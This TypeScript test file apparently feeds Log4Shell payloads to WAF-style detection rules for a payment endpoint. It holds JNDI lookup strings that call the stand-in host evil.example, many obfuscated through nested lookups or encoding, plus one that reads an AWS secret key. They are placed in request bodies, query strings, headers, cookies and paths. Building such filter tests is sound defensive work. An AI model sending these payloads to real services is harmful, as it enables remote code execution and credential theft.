import { ask, askWith, attacks, describedAs, pay, type Attack } from './request.ts';

/** CVE-2021-44228, CVE-2021-45046, CVE-2021-45105: lookups, plain and put together from others. */
const LOOKUPS = [
  '${jndi:ldap://evil.example/a}',
  '${JNDI:rmi://evil.example/a}',
  '${jndi:dns://evil.example}',
  '${${lower:j}ndi:${lower:l}dap://evil.example/a}',
  '${${lower:j}${upper:n}${lower:d}i:ldap://evil.example/a}',
  '${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}',
  '${${env:NONE:-j}ndi${env:NONE:-:}ldap://evil.example/a}',
  '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}',
  '${jnd${upper:ı}:ldap://evil.example/a}',
  '${ctx:loginId}',
  '${env:AWS_SECRET_ACCESS_KEY}',
  '${${ctx:a}:-${ctx:b}}',
] as const;

export const log4shell: readonly Attack[] = [
  ...attacks(
    'Log4JRCE_BODY',
    Object.fromEntries(LOOKUPS.map((text, index) => [`body: ${text}`, describedAs(`log4j ${index}`, text)])),
  ),
  ...attacks('Log4JRCE_BODY', {
    'body: as unicode escapes': {
      path: '/process-payment',
      body: '{"transactionId":"corpus-log4j-unicode","customerId":"c","amount":1,"description":"\\u0024\\u007bjndi:ldap://evil.example/a}"}',
    },
    'body: no JSON': {
      path: '/process-payment',
      headers: { 'content-type': 'text/plain' },
      body: 'user=${jndi:ldap://evil.example/a}',
    },
    'body: in a name of metadata': pay('log4j name', { metadata: { '${jndi:ldap://evil.example/a}': 'x' } }),
  }),
  ...attacks(
    'Log4JRCE_QUERYSTRING',
    Object.fromEntries(LOOKUPS.map((text) => [`query: ${text}`, ask(`q=${encodeURIComponent(text)}`)])),
  ),
  ...attacks('Log4JRCE_QUERYSTRING', {
    'query: encoded twice': ask('q=%2524%257Bjndi:ldap://evil.example/a%257D'),
    'query: in a name': ask('%24%7Bjndi:ldap://evil.example/a%7D=1'),
  }),
  ...attacks('Log4JRCE_HEADER', {
    'header: user agent': askWith({ 'user-agent': '${jndi:ldap://evil.example/a}' }),
    'header: referer': askWith({ referer: 'https://x.example/${${lower:j}ndi:ldap://evil.example/a}' }),
    'header: api version': askWith({ 'x-api-version': '${jndi:${lower:l}${lower:d}ap://evil.example/a}' }),
    'header: forwarded for': askWith({ 'x-forwarded-for': '${jndi:dns://evil.example}' }),
    'header: cookie': askWith({ cookie: 'session=${jndi:ldap://evil.example/a}' }),
  }),
  ...attacks('Log4JRCE_URIPATH', {
    'path: a lookup': { path: '/payments/%24%7Bjndi:ldap:%2f%2fevil.example%2fa%7D' },
    'path: nested': { path: '/payments/$%7B$%7Blower:j%7Dndi:dns:x%7D' },
  }),
];
